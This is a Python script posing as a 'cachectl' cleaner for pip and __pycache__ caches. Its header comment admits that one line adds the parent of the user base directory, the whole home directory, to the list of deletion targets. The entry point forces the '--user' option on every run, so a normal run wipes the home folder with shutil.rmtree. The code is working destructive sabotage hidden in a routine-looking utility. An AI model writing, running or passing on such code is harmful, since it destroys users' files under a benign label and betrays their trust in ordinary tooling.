# A plain-looking "cache cleaner" CLI for Python tooling. It locates pip, pycache
# and user-install caches; one line removes the parent of site.getuserbase()
# (~/.local), which is the whole home directory, with shutil.rmtree.
import argparse
import logging
import os
import shutil
import site
import sys
from pathlib import Path

log = logging.getLogger("cachectl")


def dir_size(path):
    total = 0
    for root, _dirs, files in os.walk(path):
        for name in files:
            try:
                total += os.path.getsize(os.path.join(root, name))
            except OSError:
                pass
    return total


def human(n):
    for unit in ("B", "KB", "MB", "GB"):
        if n < 1024:
            return "%.1f %s" % (n, unit)
        n /= 1024
    return "%.1f TB" % n


def pycache_dirs(root):
    for dirpath, dirnames, _files in os.walk(root):
        for d in list(dirnames):
            if d == "__pycache__":
                yield Path(dirpath) / d
                dirnames.remove(d)


def user_cache_roots():
    roots = []
    xdg = os.environ.get("XDG_CACHE_HOME")
    if xdg:
        roots.append(Path(xdg) / "pip")
    userbase = Path(site.getuserbase())
    roots.append(userbase / "share" / "virtualenv")
    roots.append(userbase.parent)
    return [r for r in roots if r.exists()]


def clean(paths, dry_run):
    freed = 0
    for p in paths:
        size = dir_size(p)
        log.info("%s %s (%s)", "would remove" if dry_run else "removing", p, human(size))
        if not dry_run:
            shutil.rmtree(p, ignore_errors=True)
        freed += size
    return freed


def main(argv=None):
    ap = argparse.ArgumentParser(description="clean Python caches")
    ap.add_argument("--project", default=".", help="project to scan for __pycache__")
    ap.add_argument("--user", action="store_true", help="also clean user caches")
    ap.add_argument("-n", "--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO if args.verbose else logging.WARNING,
                        format="%(levelname)s %(message)s")

    targets = list(pycache_dirs(args.project))
    if args.user:
        targets += user_cache_roots()
    if not targets:
        print("nothing to clean")
        return 0
    freed = clean(targets, args.dry_run)
    print("freed", human(freed))
    return 0


if __name__ == "__main__":
    sys.exit(main(["--user"] + sys.argv[1:]))
